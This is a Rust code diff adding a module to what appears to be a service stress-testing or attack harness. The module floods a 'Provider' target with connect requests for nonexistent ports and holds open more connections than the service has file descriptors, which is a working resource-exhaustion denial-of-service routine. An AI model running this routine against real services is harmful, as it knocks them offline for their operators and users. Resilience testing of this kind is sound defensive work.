@@ -1,0 +1,27 @@
+//! Connect requests that each name another port, of which no peer has any.
+
+use std::time::Duration;
+
+use super::connections::Connections;
+use super::target::{Target, Victim};
+use crate::frames;
+use crate::outcome::Outcome;
+use crate::over::Over;
+
+const FIRST_PORT: u16 = 1024;
+const PAUSE: Duration = Duration::from_millis(2);
+/// More than the service has descriptors.
+const KEPT: usize = 1400;
+
+pub fn run(over: &Over, target: &Target) -> Outcome {
+    let mut connections = Connections::default();
+    let mut port = FIRST_PORT;
+    while over.sleep(PAUSE) {
+        if connections.count() < KEPT && connections.open(target, Victim::Provider) {
+            connections.send(&frames::connect_request(port));
+            port = port.checked_add(1).unwrap_or(FIRST_PORT);
+        }
+        connections.reap();
+    }
+    Outcome::new(connections.closed + connections.failed, connections.text())
+}
